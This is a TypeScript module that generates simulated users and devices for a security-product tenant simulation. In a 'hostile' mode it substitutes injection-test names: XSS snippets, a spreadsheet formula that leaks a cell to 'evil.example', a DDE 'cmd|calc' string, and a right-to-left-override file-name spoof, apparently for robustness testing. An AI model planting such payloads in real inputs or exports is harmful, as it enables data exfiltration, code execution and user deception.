import { departments, familyNames, givenNames, sites } from './organization-names.ts';
import type { Site } from './organization-names.ts';
import type { SimulationContext } from './simulation-options.ts';

export interface SimulatedUser {
  readonly index: number;
  /** Entra object id. */
  readonly id: string;
  readonly upn: string;
  /** The part of the UPN before the `@`. */
  readonly account: string;
  readonly displayName: string;
  readonly department: string;
  readonly title: string;
  readonly site: Site;
  readonly isPrivileged: boolean;
  readonly homeIp: string;
}

export interface SimulatedDevice {
  readonly index: number;
  /** Defender for Endpoint machine id, 40 hexadecimal digits. */
  readonly id: string;
  readonly aadDeviceId: string;
  readonly name: string;
  readonly kind: 'Workstation' | 'Server';
  readonly osPlatform: string;
  readonly osVersion: string;
  readonly site: Site;
  readonly localIp: string;
  readonly onboardingStatus: 'Onboarded' | 'Can be onboarded';
  readonly sensorHealth: 'Active' | 'Inactive' | 'Misconfigured';
  readonly exposureLevel: 'High' | 'Medium' | 'Low';
  readonly antivirusMode: 'active' | 'passive' | 'disabled';
  /** Id of the device that replaced this record, for a re-installed machine. */
  readonly mergedToDeviceId: string;
  readonly owner: SimulatedUser | undefined;
}

export interface Organization {
  readonly users: readonly SimulatedUser[];
  readonly devices: readonly SimulatedDevice[];
  /** Onboarded and not merged into another record: those that alerts can name. */
  readonly protectedDevices: readonly SimulatedDevice[];
}

/** The people and machines of the tenant. User and device `n` are the same at every scale that has them. */
export function buildOrganization(context: SimulationContext): Organization {
  const userCount = Math.max(24, Math.round(1200 * context.scale));
  const serverCount = Math.max(5, Math.round(60 * context.scale));
  const users = Array.from({ length: userCount }, (_, index) => makeUser(context, index));
  const workstations = users.map((user) => makeDevice(context, user.index, 'Workstation', user));
  const servers = Array.from({ length: serverCount }, (_, index) => makeDevice(context, index, 'Server', undefined));
  const devices = [...servers, ...workstations].map((device, index) => ({ ...device, index }));
  return {
    users,
    devices,
    protectedDevices: devices.filter((device) => device.onboardingStatus === 'Onboarded' && device.mergedToDeviceId === ''),
  };
}

const mark = { rightToLeftOverride: '\u202e', popDirection: '\u202c' };

/** Display names that an attacker could have typed into a self-service form. */
const hostileDisplayNames: Readonly<Record<number, string>> = {
  3: 'Mallory <img src=x onerror=alert(1)> & "Sons"',
  9: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  14: `Quarterly ${mark.rightToLeftOverride}fdp.exe${mark.popDirection} Reviewer`,
  19: `Wolfeschlegel${'steinhausenbergerdorff'.repeat(9)}`,
};
const hostileDeviceNames: Readonly<Record<number, string>> = {
  2: "LT-<script>alert('host')</script>",
  6: '@SUM(1+1)*cmd|calc',
};

function makeUser(context: SimulationContext, index: number): SimulatedUser {
  const random = context.random.split('user', index);
  const given = random.pick(givenNames);
  const family = random.pick(familyNames);
  const site = random.pickWeighted(sites.map((value) => ({ value, weight: value.weight })));
  const department = random.pickWeighted(departments.map((value) => ({ value, weight: value.weight })));
  const account = `${asciiLower(given)}.${asciiLower(family)}${index}`;
  const hostileName = context.hostile ? hostileDisplayNames[index] : undefined;
  return {
    index,
    id: random.guid(),
    upn: `${account}@${context.customer.domain}`,
    account,
    displayName: hostileName ?? `${given} ${family}`,
    department: department.name,
    title: random.pick<string>(department.titles),
    site,
    isPrivileged: department.name === 'IT' && random.chance(0.3),
    homeIp: `2001:db8:${(index % 65_536).toString(16)}:${random.hex(4)}::${(index >>> 16).toString(16)}`,
  };
}

function makeDevice(
  context: SimulationContext,
  index: number,
  kind: 'Workstation' | 'Server',
  owner: SimulatedUser | undefined,
): SimulatedDevice {
  const random = context.random.split('device', kind, index);
  const site = owner?.site ?? random.pickWeighted(sites.map((value) => ({ value, weight: value.weight })));
  const [osPlatform, osVersion] = kind === 'Server' ? random.pickWeighted(serverSystems) : random.pickWeighted(clientSystems);
  const hostileName = context.hostile && kind === 'Workstation' ? hostileDeviceNames[index] : undefined;
  const plainName = `${site.code.toLowerCase()}-${kind === 'Server' ? 'srv' : 'lt'}-${String(index + 1).padStart(5, '0')}.${context.customer.domain}`;
  const onboardingStatus = random.chance(0.04) ? 'Can be onboarded' : 'Onboarded';
  const sensorHealth = random.pickWeighted([
    { value: 'Active', weight: 94 },
    { value: 'Inactive', weight: 4 },
    { value: 'Misconfigured', weight: 2 },
  ] as const);
  const exposureLevel = random.pickWeighted([
    { value: 'Low', weight: 70 },
    { value: 'Medium', weight: 24 },
    { value: 'High', weight: 6 },
  ] as const);
  const antivirusMode = random.pickWeighted([
    { value: 'active', weight: 96 },
    { value: 'passive', weight: 3 },
    { value: 'disabled', weight: 1 },
  ] as const);
  return {
    index,
    id: random.hex(40),
    aadDeviceId: random.guid(),
    name: hostileName ?? plainName,
    kind,
    osPlatform,
    osVersion,
    site,
    localIp: `10.${20 + (site.code.charCodeAt(0) % 20)}.${(index >>> 8) & 255}.${index & 255}`,
    onboardingStatus,
    sensorHealth: onboardingStatus === 'Onboarded' ? sensorHealth : 'Inactive',
    exposureLevel,
    antivirusMode,
    mergedToDeviceId: random.chance(0.01) ? random.hex(40) : '',
    owner,
  };
}

type WeightedSystems = readonly { readonly value: readonly [platform: string, version: string]; readonly weight: number }[];

const clientSystems: WeightedSystems = [
  { value: ['Windows11', '10.0'], weight: 68 },
  { value: ['Windows10', '10.0'], weight: 14 },
  { value: ['macOS', '15.6'], weight: 14 },
  { value: ['Linux', '24.4'], weight: 4 },
];
const serverSystems: WeightedSystems = [
  { value: ['WindowsServer2022', '10.0'], weight: 56 },
  { value: ['WindowsServer2019', '10.0'], weight: 26 },
  { value: ['Linux', '9.4'], weight: 18 },
];

function asciiLower(name: string): string {
  return name
    .normalize('NFD')
    .replaceAll(/[^A-Za-z]/g, '')
    .toLowerCase();
}
